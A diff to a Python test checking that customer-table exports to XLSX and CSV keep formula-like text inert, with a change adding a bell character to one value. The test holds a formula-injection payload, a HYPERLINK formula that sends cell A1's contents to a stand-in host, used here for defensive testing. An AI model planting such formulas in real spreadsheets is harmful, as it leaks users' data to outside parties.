@@ -231,8 +231,8 @@ def test_text_that_looks_like_a_formula_stays_text(staffed, tmp_path):
     """A name or note arriving from anywhere (a sync, a hand edit) must not run in Excel."""
     archive = as_person(staffed, "赵磊")
     hostile = '=HYPERLINK("http://example.com/?"&A1,"点击")'
-    table = tables.Table("客户列表", ("客户编号", "备注"), [["BJ-000001", hostile], ["BJ-000002", "-1+2"]], False)
+    table = tables.Table("客户列表", ("客户编号", "备注"), [["BJ-000001", hostile], ["BJ-000002", "-1+2\x07"]], False)
     cells = load_workbook(tables.export(archive, table, tmp_path / "f.xlsx")).active["B"]
-    assert [(c.value, c.data_type) for c in cells[1:]] == [(hostile, "s"), ("-1+2", "s")]
+    assert [(c.value, c.data_type) for c in cells[1:]] == [(hostile, "s"), ("-1+2", "s")], "no bell either"
     rows = list(csv.reader(io.StringIO(tables.export(archive, table, tmp_path / "f.csv").read_text("utf-8-sig"))))
-    assert [r[1] for r in rows[1:]] == ["'" + hostile, "'-1+2"]
+    assert [r[1] for r in rows[1:]] == ["'" + hostile, "'-1+2\x07"]
